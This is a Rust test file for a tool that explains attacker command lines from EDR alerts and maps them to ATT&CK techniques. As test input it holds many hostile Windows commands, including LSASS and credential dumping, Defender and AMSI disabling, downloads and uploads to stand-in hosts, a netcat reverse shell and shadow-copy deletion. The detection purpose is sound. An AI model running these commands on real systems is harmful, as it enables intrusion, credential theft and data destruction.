//! `kb explain` on real command lines: the analyst pastes what the EDR shows and reads which
//! technique this exact command shows first, with its artefacts. One index over the real
//! bundles; every case runs the real parser, the real kb/ data and the real ranking.

mod common;

use attack_kb::explain::{self, Explanation, Lang};
use common::*;

fn explain_en(line: &str) -> Explanation {
    explain::explain(&open(), line, Lang::En).expect("explain never fails")
}

/// Every artefact value of the explanation and its nested parts.
fn artefacts(e: &Explanation) -> Vec<String> {
    let mut out: Vec<String> = e.artefacts.iter().map(|a| a.value.clone()).collect();
    for n in &e.nested {
        out.extend(artefacts(n));
    }
    out
}

/// (command line, technique IDs any of which may come first, artefacts that must be found).
type Case = (
    &'static str,
    &'static [&'static str],
    &'static [&'static str],
);

fn check(cases: &[Case]) {
    let kb = open();
    let mut failures = Vec::new();
    for (line, want, arts) in cases {
        let e = explain::explain(&kb, line, Lang::En).expect("explain never fails");
        let first = e.techniques.first().map(|t| t.id.as_str()).unwrap_or("-");
        if !want.contains(&first) {
            let got: Vec<&str> = e.techniques.iter().take(4).map(|t| t.id.as_str()).collect();
            failures.push(format!("{line}\n    want {want:?}, got {got:?}"));
        }
        let found = artefacts(&e);
        for a in *arts {
            if !found.iter().any(|f| f.eq_ignore_ascii_case(a)) {
                failures.push(format!("{line}\n    artefact {a:?} missing from {found:?}"));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

const SEED: &str = r#""schtasks.exe" /create /SC ONCE /TN Troj /TR C:\Users\vmadmin\Desktop\WinATP-Intro-Backdoor.exe /ST 13:36 /F"#;

#[test]
fn the_mde_schtasks_alert_is_told_as_a_one_time_task_with_a_suspect_payload() {
    let e = explain_en(SEED);
    assert_eq!(e.program.as_deref(), Some("schtasks.exe"));
    let facts = e.catalogue.as_ref().expect("catalogue facts");
    assert!(facts.ships_with_windows);
    assert!(
        facts
            .expected_paths
            .iter()
            .any(|p| p.ends_with(r"System32\schtasks.exe"))
    );
    let t = &e.techniques[0];
    assert_eq!(t.id, "T1053.005");
    let tactics: Vec<&str> = t.tactics.iter().map(|t| t.id.as_str()).collect();
    assert!(tactics.contains(&"TA0003") && tactics.contains(&"TA0002"));
    // Execution is what this command shows; persistence is not (ONCE).
    assert!(t.tactics.iter().any(|x| x.id == "TA0002" && x.shown));
    assert!(t.tactics.iter().any(|x| x.id == "TA0003" && !x.shown));
    let switches: Vec<(&str, Option<&str>)> = e
        .arguments
        .iter()
        .filter_map(|a| a.switch.as_deref().map(|s| (s, a.value.as_deref())))
        .collect();
    assert!(switches.contains(&("/tn", Some("Troj"))));
    assert!(switches.contains(&("/sc", Some("ONCE"))));
    assert!(switches.contains(&("/st", Some("13:36"))));
    assert!(switches.contains(&("/f", None)));
    let notes: Vec<&str> = e.assessment.iter().map(|n| n.text.as_str()).collect();
    assert!(notes.iter().any(|n| n.contains("/RU")), "{notes:?}");
    assert!(e.assessment.iter().any(|n| n.kind == "worse"));
    // The payload is the real suspect: a program in the user's Desktop.
    let payload = &e.nested[0];
    assert!(payload.program.is_none());
    assert!(
        payload.assessment.iter().any(|n| n.kind == "suspect"),
        "{:?}",
        payload.assessment
    );
    let arts = artefacts(&e);
    for a in [
        "Troj",
        r"C:\Users\vmadmin\Desktop\WinATP-Intro-Backdoor.exe",
        "13:36",
    ] {
        assert!(arts.iter().any(|x| x == a), "{a} missing from {arts:?}");
    }
    assert!(e.investigate.iter().any(|i| i.contains("4698")));
    assert!(e.investigate.iter().any(|i| i.contains("TaskCache")));
}

#[test]
fn spans_underline_the_argument_in_the_original_line() {
    let e = explain_en(SEED);
    let chars: Vec<char> = SEED.chars().collect();
    let text = |s: usize, e: usize| chars[s..e].iter().collect::<String>();
    let tr = e
        .arguments
        .iter()
        .find(|a| a.switch.as_deref() == Some("/tr"))
        .expect("/tr");
    assert_eq!(
        text(tr.start, tr.end),
        r"/TR C:\Users\vmadmin\Desktop\WinATP-Intro-Backdoor.exe"
    );
    let t = &e.techniques[0];
    let span = t.span.expect("a span for the switch that implies it");
    assert_eq!(text(span.start, span.end), "/create");
}

#[test]
fn japanese_output_uses_the_analysts_words() {
    let e = explain::explain(&open(), SEED, Lang::Ja).expect("explain");
    let t = &e.techniques[0];
    assert!(t.name_ja.as_deref().is_some_and(|n| n.contains("タスク")));
    assert!(
        e.assessment
            .iter()
            .any(|n| attack_kb::text::has_japanese(&n.text))
    );
    let out = stdout(&kb(&["explain", "--lang", "ja", SEED]));
    assert!(out.contains("T1053.005"), "{out}");
    assert!(
        out.contains("このコマンドの動作") && out.contains("評価"),
        "{out}"
    );
    assert!(out.contains("永続化") || out.contains("常設"), "{out}");
}

#[test]
fn nested_and_encoded_commands_are_explained_in_turn() {
    // cmd /c wrapping an encoded PowerShell that turns off Defender's real-time monitoring.
    let script = "Set-MpPreference -DisableRealtimeMonitoring $true";
    let utf16: Vec<u8> = script
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    let b64 = base64_encode(&utf16);
    let line = format!(r#"cmd.exe /c "powershell.exe -nop -w hidden -enc {b64}""#);
    let e = explain_en(&line);
    assert_eq!(e.techniques[0].id, "T1562.001", "{:?}", e.techniques);
    let ps = &e.nested[0];
    assert_eq!(ps.program.as_deref(), Some("powershell.exe"));
    let decoded = &ps.nested[0];
    assert!(decoded.decoded && decoded.input.contains("Set-MpPreference"));
}

fn base64_encode(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

#[test]
fn an_unknown_program_is_said_to_be_unknown_and_still_read() {
    let e = explain_en(r"C:\Users\Public\svch0st.exe -connect 198.51.100.7:443 -k");
    assert!(e.program.is_none());
    assert!(
        e.assessment
            .iter()
            .any(|n| n.text.contains("not in kb's catalogue"))
    );
    assert!(e.assessment.iter().any(|n| n.kind == "suspect"));
    assert!(artefacts(&e).iter().any(|a| a == "198.51.100.7"));
}

#[test]
fn a_renamed_tool_is_recognised_by_its_arguments() {
    let e =
        explain_en(r#"C:\ProgramData\m64.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#);
    assert_eq!(e.program.as_deref(), Some("mimikatz.exe"));
    assert!(e.catalogue.as_ref().is_some_and(|c| c.renamed));
    assert_eq!(e.techniques[0].id, "T1003.001");
}

#[test]
fn search_with_a_command_line_leads_with_the_program_and_its_technique() {
    let kb = open();
    let hits = ids(&search(
        &kb,
        r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Upd /d C:\Users\Public\u.exe /f",
    ));
    assert_eq!(&hits[..2], ["reg.exe", "T1547.001"]);
    // Path parts, drive letters and switches match no names.
    let hits = ids(&search(
        &kb,
        r"net use \\fs01.corp.local\C$ /user:corp\admin /persistent:no",
    ));
    assert_eq!(hits[0], "net.exe");
    for unrelated in ["T1078.003", "T1564.002"] {
        assert!(
            !hits.contains(&unrelated.to_string()),
            "{unrelated} in {hits:?}"
        );
    }
    let hits = search(&kb, r"cmd.exe /c C:\Users\x\f.exe /f");
    assert_eq!(hits[0].stored.id, "cmd.exe");
    // `C:` and `/f` are not the languages C# and F#; `Users` is not Hidden Users.
    for h in &hits {
        let n = h.stored.name.to_lowercase();
        assert!(
            !n.contains('#') && !n.contains("hidden users"),
            "{}",
            h.stored.name
        );
    }
}

#[test]
fn cli_reads_standard_input_line_by_line_and_writes_json() {
    let out = kb_stdin(
        &["explain", "--json", "-"],
        b"whoami /all\nvssadmin.exe delete shadows /all /quiet\n",
    );
    assert!(out.status.success());
    let lines: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
        .collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(lines[0]["techniques"][0]["id"], "T1033");
    assert_eq!(lines[1]["techniques"][0]["id"], "T1490");
    assert_eq!(lines[1]["program"], "vssadmin.exe");
}

#[test]
fn hostile_input_never_fails_and_stays_bounded() {
    let kb = open();
    let deep = format!("{}whoami{}", "cmd /c \"".repeat(200), "\"".repeat(200));
    let nested_ps = format!("powershell -c {}", "& { ".repeat(500));
    let big = "A".repeat(1 << 20);
    let quotes = "\"\\\"\\\\\"^&|<>%:;".repeat(1000);
    for line in [
        deep.as_str(),
        nested_ps.as_str(),
        big.as_str(),
        quotes.as_str(),
        "",
        "   ",
        "\u{0}\u{1}\u{7f}",
        "powershell -enc ====",
        "powershell -e",
        "reg add",
        "sc.exe create x binPath=",
        "rundll32 ,",
        "常設 schtasks 永続化",
        // A program name that Windows reads as one word and a search as two (an em space):
        // the unknown program's loose search must not explain it again, forever.
        "a\u{2003}-b",
        "x.y\u{3000}/z",
    ] {
        let e = explain::explain(&kb, line, Lang::En).expect("explain never fails");
        let size = serde_json::to_string(&e).expect("serialises").len();
        assert!(size < 2_000_000, "output of {} bytes", size);
    }
}

#[test]
fn persistence_commands() {
    check(&[
        (
            r"schtasks /create /tn Upd /tr C:\ProgramData\upd.exe /sc onlogon /ru SYSTEM",
            &["T1053.005"],
            &[r"C:\ProgramData\upd.exe", "Upd"],
        ),
        (
            r#"schtasks.exe /Create /F /SC DAILY /ST 09:00 /TN WinUpdate /TR "C:\Windows\Temp\a.bat""#,
            &["T1053.005"],
            &["WinUpdate"],
        ),
        (r"at \\10.1.1.5 22:00 C:\temp\x.exe", &["T1053.002"], &[]),
        (
            r#"sc create UpdSvc binPath= "C:\Users\Public\svc.exe" start= auto"#,
            &["T1543.003"],
            &[r"C:\Users\Public\svc.exe"],
        ),
        (
            r#"sc.exe config wuauserv binPath= "cmd /c C:\temp\p.exe""#,
            &["T1543.003"],
            &[r"C:\temp\p.exe"],
        ),
        (
            r#"reg add "HKLM\Software\Microsoft\Windows\CurrentVersion\RunOnce" /v x /t REG_SZ /d "C:\temp\r.exe" /f"#,
            &["T1547.001"],
            &[r"C:\temp\r.exe"],
        ),
        (
            r#"reg.exe add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Userinit /d "C:\Windows\system32\userinit.exe,C:\temp\u.exe" /f"#,
            &["T1547.004"],
            &[],
        ),
        (
            r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\windows\system32\cmd.exe" /f"#,
            &["T1546.008", "T1546.012"],
            &[],
        ),
        (
            r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v "Security Packages" /t REG_MULTI_SZ /d evil /f"#,
            &["T1547.005"],
            &[],
        ),
        (
            r"powershell Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name Upd -Value 'C:\Users\Public\u.exe'",
            &["T1547.001"],
            &[],
        ),
        (
            r#"wmic /namespace:"\\root\subscription" PATH CommandLineEventConsumer CREATE Name="c", CommandLineTemplate="C:\temp\p.exe""#,
            &["T1546.003"],
            &[],
        ),
        (
            r#"reg add HKCU\Software\Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32 /ve /d C:\temp\x.dll /f"#,
            &["T1546.015"],
            &[],
        ),
        (
            r#"powershell -c "New-Service -Name Upd -BinaryPathName C:\ProgramData\u.exe""#,
            &["T1543.003"],
            &[],
        ),
        (
            r#"powershell Register-ScheduledTask -TaskName Upd -Action (New-ScheduledTaskAction -Execute C:\temp\u.exe) -Trigger (New-ScheduledTaskTrigger -AtLogon)"#,
            &["T1053.005"],
            &[],
        ),
        (
            r#"netsh add helper C:\temp\helper.dll"#,
            &["T1546.007"],
            &[r"C:\temp\helper.dll"],
        ),
    ]);
}

#[test]
fn credential_access_commands() {
    check(&[
        (
            r"rundll32 C:\windows\system32\comsvcs.dll MiniDump 712 C:\Users\Public\o.dmp full",
            &["T1003.001"],
            &[r"C:\Users\Public\o.dmp"],
        ),
        (
            r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp",
            &["T1003.001"],
            &[r"C:\Windows\Temp\ls.dmp"],
        ),
        (
            r"reg save HKLM\SYSTEM C:\Users\Public\sys.hiv",
            &["T1003.002"],
            &[r"C:\Users\Public\sys.hiv"],
        ),
        (
            r"reg.exe save hklm\security C:\temp\sec.hiv /y",
            &["T1003.004", "T1003.002"],
            &[],
        ),
        (
            r#"ntdsutil.exe "activate instance ntds" ifm "create full C:\Windows\Temp\n" quit quit"#,
            &["T1003.003"],
            &[],
        ),
        (
            r#"mimikatz.exe "lsadump::dcsync /domain:corp.local /user:krbtgt" exit"#,
            &["T1003.006"],
            &[],
        ),
        (
            r#"mimikatz "sekurlsa::pth /user:admin /domain:corp /ntlm:cc36cf7a8514893efccd332446158b1a""#,
            &["T1550.002"],
            &[],
        ),
        (
            r"Rubeus.exe kerberoast /outfile:C:\temp\h.txt",
            &["T1558.003"],
            &[],
        ),
        (
            r"rubeus.exe asreproast /format:hashcat",
            &["T1558.004"],
            &[],
        ),
        (r"setspn.exe -T corp.local -Q */*", &["T1558.003"], &[]),
        (
            r"reg query HKLM /f password /t REG_SZ /s",
            &["T1552.002"],
            &[],
        ),
        (
            r#"findstr /si password *.xml *.ini *.txt *.config"#,
            &["T1552.001"],
            &[],
        ),
        (r"cmdkey /list", &["T1078", "T1555.004", "T1087"], &[]),
        (
            r#"vaultcmd /listcreds:"Windows Credentials" /all"#,
            &["T1555.004"],
            &[],
        ),
        (
            r"esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\Users\Public\n.dit",
            &["T1003.003"],
            &[],
        ),
        (r"lazagne.exe all", &["T1555"], &[]),
        (r"sqldumper.exe 540 0 0x01100", &["T1003.001", "T1003"], &[]),
    ]);
}

#[test]
fn defence_evasion_commands() {
    check(&[
        (r"wevtutil.exe cl System", &["T1070.001"], &[]),
        (
            r"wevtutil sl Microsoft-Windows-PowerShell/Operational /e:false",
            &["T1562.002"],
            &[],
        ),
        (
            r"vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB",
            &["T1490"],
            &[],
        ),
        (
            r"bcdedit.exe /set {default} recoveryenabled no",
            &["T1490"],
            &[],
        ),
        (
            r"netsh firewall set opmode mode=disable",
            &["T1562.004"],
            &[],
        ),
        (
            r#"netsh advfirewall firewall add rule name="RDP" dir=in action=allow protocol=TCP localport=3389"#,
            &["T1562.004"],
            &[],
        ),
        (
            r#"powershell.exe -ExecutionPolicy Bypass -Command "Set-MpPreference -DisableIOAVProtection $true""#,
            &["T1562.001"],
            &[],
        ),
        (
            r"powershell Add-MpPreference -ExclusionProcess 'rundll32.exe'",
            &["T1562.001"],
            &[],
        ),
        (
            r#"reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f"#,
            &["T1562.001"],
            &[],
        ),
        (r"sc stop WinDefend", &["T1562.001", "T1489"], &[]),
        (
            r"attrib.exe +h +s C:\ProgramData\x.exe",
            &["T1564.001"],
            &[r"C:\ProgramData\x.exe"],
        ),
        (
            r"icacls C:\Windows\System32\utilman.exe /grant administrators:F",
            &["T1222.001"],
            &[],
        ),
        (
            r"certutil.exe -decode C:\Users\Public\p.txt C:\Users\Public\p.exe",
            &["T1140"],
            &[r"C:\Users\Public\p.exe"],
        ),
        (
            r"certutil -encode C:\temp\data.zip C:\temp\data.b64",
            &["T1027.013"],
            &[],
        ),
        (
            r#"cmd /c echo payload > C:\Users\Public\desktop.ini:hide.exe"#,
            &["T1564.004"],
            &[r"C:\Users\Public\desktop.ini:hide.exe"],
        ),
        (r"fsutil usn deletejournal /d C:", &["T1070"], &[]),
        (
            r"fsutil behavior set SymlinkEvaluation R2L:1 R2R:1",
            &["T1222.001"],
            &[],
        ),
        (r"taskkill /f /im MsMpEng.exe", &["T1562.001"], &[]),
        (
            r#"reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f"#,
            &["T1021.001", "T1112"],
            &[],
        ),
        (
            r"powershell Remove-Item (Get-PSReadlineOption).HistorySavePath",
            &["T1070.003"],
            &[],
        ),
        (
            r#"powershell -c "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)""#,
            &["T1562.001"],
            &[],
        ),
        (r"cipher /w:C:\Users", &["T1485", "T1070.004"], &[]),
        (r"del /f /q C:\temp\*.log", &["T1070.004"], &[]),
    ]);
}

#[test]
fn proxy_execution_and_download_commands() {
    check(&[
        (
            r#"mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")(window.close)"#,
            &["T1218.005"],
            &[],
        ),
        (
            r"mshta https://198.51.100.9/run.hta",
            &["T1218.005"],
            &["https://198.51.100.9/run.hta"],
        ),
        (
            r"regsvr32.exe /s /u /i:https://198.51.100.9/x.sct scrobj.dll",
            &["T1218.010"],
            &["https://198.51.100.9/x.sct"],
        ),
        (
            r"rundll32.exe shell32.dll,Control_RunDLL C:\temp\x.cpl",
            &["T1218.011", "T1218.002"],
            &[],
        ),
        (
            r#"rundll32.exe url.dll,OpenURL "C:\temp\x.hta""#,
            &["T1218.011"],
            &[],
        ),
        (
            r"msiexec.exe /quiet /i https://198.51.100.9/p.msi",
            &["T1218.007"],
            &["https://198.51.100.9/p.msi"],
        ),
        (
            r"odbcconf.exe /a {regsvr C:\temp\x.dll}",
            &["T1218.008"],
            &[],
        ),
        (
            r"InstallUtil.exe /logfile= /LogToConsole=false /U C:\temp\x.dll",
            &["T1218.004"],
            &[],
        ),
        (r"regsvcs.exe C:\temp\x.dll", &["T1218.009"], &[]),
        (
            r"MSBuild.exe C:\Users\Public\build.xml",
            &["T1127.001"],
            &[],
        ),
        (r"cmstp.exe /ni /s C:\temp\x.inf", &["T1218.003"], &[]),
        (r"control.exe C:\temp\x.cpl", &["T1218.002"], &[]),
        (r"pcalua.exe -a C:\temp\x.exe", &["T1202"], &[]),
        (
            r#"forfiles /p c:\windows\system32 /m notepad.exe /c "cmd /c calc.exe""#,
            &["T1202"],
            &[],
        ),
        (
            r"certutil.exe -urlcache -f https://198.51.100.9/a.exe C:\Users\Public\a.exe",
            &["T1105"],
            &["https://198.51.100.9/a.exe", r"C:\Users\Public\a.exe"],
        ),
        (
            r"certutil -verifyctl -split -f https://198.51.100.9/a.exe",
            &["T1105"],
            &[],
        ),
        (
            r"bitsadmin /create j & bitsadmin /addfile j https://198.51.100.9/a.exe C:\temp\a.exe & bitsadmin /resume j",
            &["T1197", "T1105"],
            &[],
        ),
        (
            r"powershell (New-Object Net.WebClient).DownloadFile('https://198.51.100.9/a.exe','C:\Users\Public\a.exe')",
            &["T1105"],
            &[],
        ),
        (
            r"powershell -c iwr https://198.51.100.9/a.ps1 -OutFile $env:TEMP\a.ps1",
            &["T1105"],
            &[],
        ),
        (
            r"powershell Start-BitsTransfer -Source https://198.51.100.9/a.exe -Destination C:\temp\a.exe",
            &["T1197", "T1105"],
            &[],
        ),
        (
            r"curl.exe -k -o C:\temp\a.exe https://198.51.100.9/a.exe",
            &["T1105"],
            &[],
        ),
        (
            r"esentutl.exe /y \\198.51.100.9\share\a.exe /d C:\temp\a.exe /o",
            &["T1105", "T1570"],
            &[],
        ),
        (
            r"expand \\198.51.100.9\share\a.cab C:\temp\a.exe",
            &["T1105", "T1140"],
            &[],
        ),
        (
            r"wscript.exe //e:jscript C:\temp\a.txt",
            &["T1059.007"],
            &[],
        ),
        (r"cscript.exe C:\Users\Public\a.vbs", &["T1059.005"], &[]),
        (
            r"powershell.exe -NoP -sta -NonI -W Hidden -File C:\Users\Public\a.ps1",
            &["T1059.001"],
            &[r"C:\Users\Public\a.ps1"],
        ),
        (r"hh.exe https://198.51.100.9/a.chm", &["T1218.001"], &[]),
        (r"msxsl.exe C:\temp\c.xml C:\temp\c.xsl", &["T1220"], &[]),
        (
            r#"wmic os get /format:"https://198.51.100.9/a.xsl""#,
            &["T1220"],
            &[],
        ),
    ]);
}

#[test]
fn discovery_lateral_and_other_commands() {
    check(&[
        (r"net localgroup administrators", &["T1069.001"], &[]),
        (r"net user /domain", &["T1087.002"], &[]),
        (
            r"net user svc_b Winter2024! /add /domain",
            &["T1136.002"],
            &[],
        ),
        (r"net share", &["T1135"], &[]),
        (r#"net stop "Sophos Agent""#, &["T1489", "T1562.001"], &[]),
        (r"nltest /dclist:corp.local", &["T1018"], &[]),
        (r"whoami /priv", &["T1033"], &[]),
        (r"quser", &["T1033"], &[]),
        (r"arp -a", &["T1016", "T1018"], &[]),
        (r"route print", &["T1016"], &[]),
        (r"netstat -anob", &["T1049"], &[]),
        (r"tasklist /svc", &["T1007", "T1057"], &[]),
        (r"wmic process get name,processid", &["T1057"], &[]),
        (
            r#"wmic /node:10.0.0.7 /user:corp\adm process call create "cmd /c C:\temp\x.exe""#,
            &["T1047"],
            &["10.0.0.7"],
        ),
        (r"systeminfo /s 10.0.0.7", &["T1082"], &[]),
        (r"dsquery computer -limit 0", &["T1018"], &[]),
        (r"AdFind.exe -f objectcategory=person", &["T1087.002"], &[]),
        (
            r"PsExec64.exe \\10.0.0.7 -u corp\adm -p P@ss -s cmd.exe",
            &["T1569.002", "T1021.002"],
            &["10.0.0.7"],
        ),
        (r"winrs -r:srv01 ipconfig", &["T1021.006"], &[]),
        (r"mstsc.exe /v:10.0.0.7 /admin", &["T1021.001"], &[]),
        (r"tscon 2 /dest:rdp-tcp#0", &["T1563.002"], &[]),
        (
            r"powershell Invoke-Command -ComputerName srv01 -ScriptBlock { whoami }",
            &["T1021.006"],
            &[],
        ),
        (r"powershell Get-ADComputer -Filter *", &["T1018"], &[]),
        (
            r"powershell Get-LocalGroupMember -Group Administrators",
            &["T1069.001"],
            &[],
        ),
        (r"nmap.exe -sS -p 445 10.0.0.0/24", &["T1046"], &[]),
        (
            r"7z.exe a -pInfected1 C:\temp\loot.7z C:\Users\Bob\Documents",
            &["T1560.001"],
            &[],
        ),
        (
            r"rar.exe a -hpSecret C:\temp\l.rar C:\Finance",
            &["T1560.001"],
            &[],
        ),
        (
            r"rclone.exe sync C:\Finance mega:backup",
            &["T1567.002"],
            &[],
        ),
        (
            r"powershell Compress-Archive -Path C:\Users\Bob\Documents -DestinationPath C:\temp\d.zip",
            &["T1560.001", "T1560"],
            &[],
        ),
        (r"wbadmin delete catalog -quiet", &["T1490"], &[]),
        (r"shutdown /r /t 0 /f", &["T1529"], &[]),
        (r"powershell Get-Clipboard", &["T1115"], &[]),
        (
            r"plink.exe -R 4444:127.0.0.1:3389 user@198.51.100.9",
            &["T1572"],
            &[],
        ),
    ]);
}

#[test]
fn a_pipeline_or_a_stdin_script_is_told_by_the_command_that_acts() {
    check(&[
        // The Get only picks the services; stopping them is what the line does.
        (
            r#"powershell -c "Get-Service *sql* | Stop-Service -Force""#,
            &["T1489"],
            &[],
        ),
        (
            r#"powershell -c "Get-ChildItem C:\Users\Public\*.exe | Remove-Item -Force""#,
            &["T1070.004"],
            &[],
        ),
        // Export-Csv is no evidence of its own: the Get still tells the story.
        (
            r"powershell Get-ADUser -Filter * -Properties * | Export-Csv users.csv",
            &["T1087.002"],
            &[],
        ),
        // PowerShell told to read its script from standard input runs what echo writes.
        (
            r#"C:\Windows\system32\cmd.exe /c "echo IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.2/a') | powershell -nop -""#,
            &["T1059.001", "T1105"],
            &[],
        ),
        // Impacket smbexec's service command line, not wmiexec's output capture.
        (
            r"C:\Windows\system32\cmd.exe /Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > C:\Windows\TEMP\execute.bat & C:\Windows\system32\cmd.exe /Q /c C:\Windows\TEMP\execute.bat & del C:\Windows\TEMP\execute.bat",
            &["T1569.002"],
            &[],
        ),
        (
            r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1700000000.1234 2>&1",
            &["T1047"],
            &[],
        ),
        (
            r#"%COMSPEC% /c "C:\Users\Public\stage.bat""#,
            &["T1059.003"],
            &[],
        ),
        (
            r"cmd.exe /c timeout /t 3 & del C:\Users\jdoe\AppData\Local\Temp\inst.exe",
            &["T1070.004"],
            &[],
        ),
    ]);
}

#[test]
fn the_switch_that_matters_names_the_technique_an_analyst_would() {
    check(&[
        (r"cmdkey /list", &["T1555.004"], &[]),
        (
            r#"bitsadmin.exe /SetNotifyCmdLine job1 C:\Windows\System32\cmd.exe "/c C:\Users\Public\a.exe""#,
            &["T1197"],
            &[],
        ),
        (
            r"bitsadmin /transfer up /upload http://203.0.113.9/u C:\Users\Public\d.zip",
            &["T1048"],
            &[],
        ),
        (r"nltest /dsgetdc:corp.local", &["T1018"], &[]),
        (
            r"wmic useraccount where name='helpdesk' set PasswordExpires=false",
            &["T1098"],
            &[],
        ),
        (
            r"wmic service where name='MSSQLSERVER' call ChangeStartMode Disabled",
            &["T1489"],
            &[],
        ),
        (r"sc config vss start= disabled", &["T1490"], &[]),
        (r"sc delete wbengine", &["T1490"], &[]),
        (
            r#"curl.exe -F "file=@C:\Users\Public\loot.zip" https://evil.example/upload"#,
            &["T1048"],
            &[],
        ),
        // A public IP-lookup service says discovery whichever program or cmdlet asks it.
        (r"curl ifconfig.me", &["T1016"], &[]),
        (
            r"nslookup myip.opendns.com resolver1.opendns.com",
            &["T1016"],
            &[],
        ),
        (r#"powershell -c "irm api.ipify.org""#, &["T1016"], &[]),
        (
            r"xcopy \\fs01\legal C:\ProgramData\stage /s /e /h /y",
            &["T1039"],
            &[],
        ),
        (
            r#"copy "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data" C:\Users\Public\ld"#,
            &["T1555.003"],
            &[],
        ),
        (
            r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\csc.exe /out:C:\Users\Public\a.exe C:\Users\Public\a.cs",
            &["T1027.004"],
            &[],
        ),
        (
            r"paexec.exe \\10.0.0.2 -s -c C:\Users\Public\a.exe",
            &["T1569.002"],
            &[],
        ),
        // PsExec with no remote host: its service makes the program run as SYSTEM here.
        (r"psexec.exe -accepteula -s -i cmd.exe", &["T1569.002"], &[]),
        // Exporting a log says log enumeration, not the clearing wevtutil is known for.
        (
            r"wevtutil epl Security C:\Users\Public\sec.evtx",
            &["T1654"],
            &[],
        ),
    ]);
}

#[test]
fn general_readings_found_by_the_second_blind_set() {
    check(&[
        // The program's own flags between a switch and its value: `root` is still -addstore's.
        (
            r"certutil -addstore -f root C:\Users\Public\ca.cer",
            &["T1553.004"],
            &[],
        ),
        // `cmd /c echo CODE | powershell -` as one process line: the pipe is split before /c.
        (
            r"cmd.exe /c echo IEX(iwr http://2.2.2.2/a) | powershell -",
            &["T1059.001", "T1105"],
            &[],
        ),
        // A Get piped into a ForEach-Object or Where-Object block: the acting cmdlet tells it.
        (
            r#"powershell -c "Get-LocalUser | ForEach-Object { Disable-LocalUser -Name $_.Name }""#,
            &["T1531"],
            &[],
        ),
        (
            r#"powershell -c "Get-Service | Where-Object { $_.Name -like '*sql*' } | Stop-Service -Force""#,
            &["T1489"],
            &[],
        ),
        // A literal split with + still reads as the word it hides.
        (
            r#"powershell -nop -c "$w=[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils');$w.GetField('am'+'siInitFailed','NonPublic,Static').SetValue($null,$true)""#,
            &["T1562.001"],
            &[],
        ),
        // Folder classes with a technique count for any program naming a file there.
        (
            r#"copy C:\Users\Public\Normal.dotm "%APPDATA%\Microsoft\Templates\Normal.dotm" /y"#,
            &["T1137.001"],
            &[],
        ),
        (
            r#"xcopy "C:\Users\bob\AppData\Local\Microsoft\Outlook\*.ost" C:\Users\Public\mail\ /s /y"#,
            &["T1114.001"],
            &[],
        ),
        // Delayed-expansion substrings in a loop hide words like %VAR:~n,m% does.
        (
            r#"cmd /V:ON /c "set x=lehsrewop&& for /L %i in (8,-1,0) do set r=!r!!x:~%i,1!&& !r! -c calc""#,
            &["T1027.010"],
            &[],
        ),
        // A password after the account name resets it; it is not a lookup.
        (r"net user jsmith NewPass!2024 /domain", &["T1098"], &[]),
        (r"net user jsmith /domain", &["T1087.002"], &[]),
        // The service's command line is the evidence, even when that command says more.
        (
            r#"sc.exe config upnphost binpath= "C:\Users\Public\nc.exe -e cmd 10.0.0.1 4444" obj= ".\LocalSystem" password= """#,
            &["T1543.003"],
            &[],
        ),
        (
            r"tar -xf C:\Users\Public\tools.zip -C C:\ProgramData\t",
            &["T1140"],
            &[],
        ),
        (
            r"xwizard.exe RunWizard /taero /u {7940acf8-60ba-4213-a7c3-f3b400ee266d}",
            &["T1218"],
            &[],
        ),
        (r"winrm quickconfig -q", &["T1021.006"], &[]),
        (r"format D: /FS:NTFS /Q /Y", &["T1561.001", "T1485"], &[]),
        (
            r#"dsadd user "CN=backup2,CN=Users,DC=corp,DC=local" -pwd P@ss1 -disabled no"#,
            &["T1136.002"],
            &[],
        ),
        // A Python script runs Python; an Impacket script under python is told by the script.
        (r"python.exe C:\Users\Public\s.py", &["T1059.006"], &[]),
        (
            r"python wmiexec.py corp/administrator:P@ssw0rd@10.0.0.5",
            &["T1047"],
            &[],
        ),
        // Cloud uploaders used for exfiltration.
        (
            r#"azcopy.exe copy "C:\Users\x\Documents" "https://st01.blob.core.windows.net/c?sig=abc" --recursive"#,
            &["T1567.002"],
            &[],
        ),
        (
            r"restic.exe -r s3:https://s3.wasabisys.com/bkt backup \\fs\share",
            &["T1567.002"],
            &[],
        ),
        // A recursive listing inside a share is file discovery, not share discovery.
        (
            r"cmd /c dir /s /b \\fs01\share\*.pdf > C:\temp\pdfs.txt",
            &["T1083"],
            &[],
        ),
        (r"dir \\fs01\c$\", &["T1135"], &[]),
    ]);
}
